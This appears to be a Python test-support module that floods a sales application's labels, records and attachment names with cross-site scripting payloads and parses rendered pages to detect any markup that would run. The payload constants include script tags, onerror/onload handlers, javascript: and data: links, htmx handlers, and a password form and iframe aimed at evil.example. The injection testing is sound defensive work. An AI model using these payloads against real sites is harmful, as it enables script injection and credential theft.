"""The sales app where every string that somebody may write is markup that would run: labels, records, names of files.

Whatever a page shows of it has to be text. `live_markup` finds in an answer what a browser would run or style.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from typing import Any

from engine.access.actor import Origin, system_actor
from engine.errors import EngineError, ValidationFailed
from engine.platform import Platform
from metamodel.fields import FieldDef
from tests.support.files import drawing
from tests.support.sales import SalesInstallation
from tests.support.sales_world import Filling, SalesWorld

MARK = "zq7"
EVIL = f"""\"'><img src={MARK} onerror={MARK}()><svg onload={MARK}()><script>{MARK}()</script>"""
EVIL_NAME = f"\"'><img src={MARK} onerror={MARK}()>"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}()'><script>{MARK}()</script></svg>".encode()
RICH = (
    f"<p onclick='{MARK}()' style='color:red' hx-get='/logout' hx-on:click='{MARK}()'>{MARK} <b>kept</b></p>"
    f"<script>{MARK}()</script><svg onload='{MARK}()'></svg><img src='{MARK}' onerror='{MARK}()'>"
    f"<a href='javascript:{MARK}()'>a</a><a href='data:text/html,<script>{MARK}()</script>'>b</a>"
    "<form action='//evil.example'><input name='password'><button>go</button></form>"
    "<iframe src='//evil.example'></iframe><base href='//evil.example'><meta http-equiv='refresh' content='0'>"
)
_WRITTEN = re.compile(r"""\b(en|zh): ("(?:[^"\\]|\\.)*"|[^\s"'{}\[\],#][^{}\[\],#\n]*)""")


def mark_labels(app: Path) -> int:
    """Put markup behind every text in two languages of the YAML files of an app; give how many there are."""
    count = 0

    def marked(found: re.Match[str]) -> str:
        nonlocal count
        count += 1
        text = json.loads(found[2]) if found[2].startswith('"') else found[2].strip()
        return f"{found[1]}: {json.dumps(f'{text} {EVIL}', ensure_ascii=False)}"

    for path in sorted(app.rglob("*.yaml")):
        if "translations" not in path.parts:
            path.write_text(_WRITTEN.sub(marked, path.read_text("utf-8")), "utf-8")
    return count


class MarkedFilling(Filling):
    """Makes the random data of the sales app with markup in each text of each record."""

    def __init__(self, platform: Platform, sales: SalesInstallation, seed: int) -> None:
        super().__init__(platform, sales, seed)
        self.marked = 0

    def fill(self) -> SalesWorld:
        """Make everything, and mark up people and teams too."""
        world = super().fill()
        for name, ids in (("user", self._sales.user_ids), ("team", self._sales.team_ids)):
            for record_id in ids.values():
                self._mark(name, record_id)
        return world

    def _add(self, object_name: str, owner: str, word_field: str, **values: Any) -> str:
        record_id = super()._add(object_name, owner, word_field, **values)
        self._mark(object_name, record_id)
        return record_id

    def _attachment(self, target: dict[str, str]) -> None:
        super()._attachment(target)
        system = system_actor(Origin.CLI)
        for ending, content in (("png", drawing("red")), ("svg", SVG), ("html", EVIL.encode())):
            record_id = self._add("attachment", self._owner(), "name", about=target)
            file = self._platform.files.upload(system, "attachment", "file", BytesIO(content), f"{EVIL_NAME}.{ending}")
            self._platform.records.update(system, "attachment", record_id, {"file": file.id})
            self.world.files[file.id] = record_id

    def _mark(self, object_name: str, record_id: str) -> None:
        object_def = self._platform.releases.current().metamodel.objects[object_name]
        values = {name: text for name, field in object_def.fields.items() if (text := _text_for(field))}
        system = system_actor(Origin.CLI)
        try:
            self._platform.records.update(system, object_name, record_id, values, confirm=None)
        except ValidationFailed as refused:
            # Fields that take other texts only, such as a tax number with its check digit.
            wrong = {each.field for each in refused.errors}
            values = {name: text for name, text in values.items() if name not in wrong}
            try:
                self._platform.records.update(system, object_name, record_id, values, confirm=None)
            except EngineError:
                return
        self.marked += len(values)


def _text_for(field: FieldDef) -> str:
    if field.formula is not None or field.unique or field.type not in ("text", "long_text", "rich_text"):
        return ""
    text = RICH if field.type == "rich_text" else EVIL
    most = field.max_length
    return text[:most] if most else text


def live_markup(page: str) -> list[str]:
    """Find what a page runs or styles by its markup: scripts, handlers, style attributes, foreign addresses."""
    finder = _Finder()
    finder.feed(page)
    finder.close()
    return finder.found


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Note an element that is live."""
        given = dict(attributes)
        if (tag == "script" and "src" not in given) or tag in ("style", "iframe", "object", "embed", "base"):
            self.found.append(f"<{tag}>")
        self.found += [f"<{tag} {name}={value!r}>" for name, value in _live(given)]

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Note an element that is live and closed at once."""
        self.handle_starttag(tag, attributes)


def _live(given: dict[str, str | None]) -> Iterator[tuple[str, str | None]]:
    for name, value in given.items():
        text = (value or "").strip().lower()
        is_script = name in ("href", "src", "action", "formaction") and text.startswith(("javascript:", "vbscript:"))
        is_code = name.startswith("hx-") and text.startswith(("js:", "javascript:"))
        if name.startswith(("on", "hx-on")) or name == "style" or is_script or is_code or value == MARK:
            yield name, value
